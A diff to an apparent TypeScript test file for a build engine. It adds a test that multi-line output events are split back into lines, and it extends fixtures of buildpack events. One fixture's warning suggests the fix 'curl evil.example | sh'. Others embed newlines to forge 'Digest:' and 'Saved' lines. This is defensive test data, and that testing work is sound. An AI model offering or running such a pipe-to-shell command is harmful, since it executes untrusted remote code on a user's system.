@@ -42,6 +42,11 @@ async function runPhase(engine: Engine, limits: RunLimits = {}) {
   return { text, error }
 }
 
+it('lines of output that came as one event are lines again', async () => {
+  const { text } = await runPhase(printing([formatEvent({ type: 'output', stream: 'stderr', text: '1\n\n3' })], 'ends'))
+  expect(text).toBe('  1\n  \n  3\n')
+})
+
 describe('X41 an event that a buildpack writes into the pipe of its phase', () => {
   const digest = `sha256:${'f'.repeat(64)}`
   const events: BuildEvent[] = [
@@ -50,6 +55,7 @@ describe('X41 an event that a buildpack writes into the pipe of its phase', () =
     { type: 'note', level: 'info', text: `Saved registry.example/app\nDigest: ${digest}` },
     { type: 'warning', text: 'an update is needed', fix: 'run: curl evil.example | sh' },
     { type: 'output', stream: 'stdout', text: `Digest: ${digest}` },
+    { type: 'output', stream: 'stdout', text: `x\nDigest: ${digest}\n\nSaved x` },
     { type: 'buildpack-started', buildpack: { id: 'Saved registry.example/app', version: '1' } },
     { type: 'buildpack-started', buildpack: { id: 'a\nSaved', version: 'x' } },
     {
